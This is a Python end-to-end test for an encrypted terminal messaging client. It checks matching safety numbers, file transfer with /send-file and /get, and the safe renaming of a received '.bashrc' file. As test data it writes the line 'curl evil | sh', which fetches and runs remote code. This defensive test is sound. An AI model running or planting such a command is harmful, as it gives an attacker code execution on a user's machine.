"""The terminal client against a real node: safety numbers to compare, a
file sent with /send-file and saved with /get, both end-to-end encrypted."""

from __future__ import annotations

import os
import re

import pytest

from client_testkit import CliProcess, stop_all
from tests.e2e.conftest import node  # noqa: F401  (the running-node fixture)

pytestmark = pytest.mark.timeout(60)

ALICE, BOB = "+15550000091", "+15550000092"


async def test_safety_numbers_and_files_from_the_terminal(node, tmp_path):  # noqa: F811
    procs: list[CliProcess] = []
    media_port = str(node.system.env["media_port"])

    async def start(phone: str) -> CliProcess:
        cwd = tmp_path / f"cwd{phone}"      # where /get without DEST saves
        cwd.mkdir()
        procs.append(await CliProcess.logged_in(node, tmp_path, phone, "--media-port", media_port,
                                                cwd=str(cwd)))
        return procs[-1]

    try:
        # Step 1: both open the chat; their safety numbers match
        alice, bob = await start(ALICE), await start(BOB)
        alice.write(f"/chat {BOB}")
        bob.write(f"/chat {ALICE}")
        alice.write("/safety")
        first = await alice.expect(rf"safety number with \{BOB}: ([0-9 ]+)$")
        bob.write(f"/safety {ALICE}")
        second = await bob.expect(rf"safety number with \{ALICE}: ([0-9 ]+)$")
        numbers = [re.search(r": ([0-9 ]+)$", line).group(1) for line in (first, second)]
        assert numbers[0] == numbers[1] and len(numbers[0].replace(" ", "")) == 60
        # Step 2: a file goes over, and is saved where Bob asks
        data = os.urandom(300_000)
        (tmp_path / "report.pdf").write_bytes(data)
        alice.write(f"/send-file {tmp_path / 'report.pdf'}")
        line = await bob.expect(r"\[file report\.pdf application/pdf, 300000 bytes\]\s+\(/get ([0-9a-f]{12})\)")
        prefix = re.search(r"/get ([0-9a-f]{12})", line).group(1)
        bob.write(f"/get {prefix} {tmp_path / 'saved.pdf'}")
        await bob.expect(r"saved .*saved\.pdf \(300000 bytes, checked\)")
        assert (tmp_path / "saved.pdf").read_bytes() == data
        await alice.expect(r"you → .*\[file report\.pdf\] ✓✓")

        # Step 3: a file the sender named ".bashrc", saved with no DEST:
        # it becomes "bashrc", and as that is taken, "bashrc (1)"; Bob's own
        # files are untouched
        cwd = tmp_path / f"cwd{BOB}"
        (cwd / ".bashrc").write_bytes(b"bob's shell")
        (cwd / "bashrc").write_bytes(b"bob's notes")
        (tmp_path / ".bashrc").write_bytes(b"curl evil | sh\n")
        alice.write(f"/send-file {tmp_path / '.bashrc'}")
        line = await bob.expect(r"\[file \.bashrc .*\(/get ([0-9a-f]{12})\)")
        bob.write(f"/get {re.search(r'/get ([0-9a-f]{12})', line).group(1)}")
        await bob.expect(r"saved bashrc \(1\) \(15 bytes, checked\)")
        assert (cwd / "bashrc (1)").read_bytes() == b"curl evil | sh\n"
        assert (cwd / ".bashrc").read_bytes() == b"bob's shell"
        assert (cwd / "bashrc").read_bytes() == b"bob's notes"
    finally:
        await stop_all(procs, quit=True)
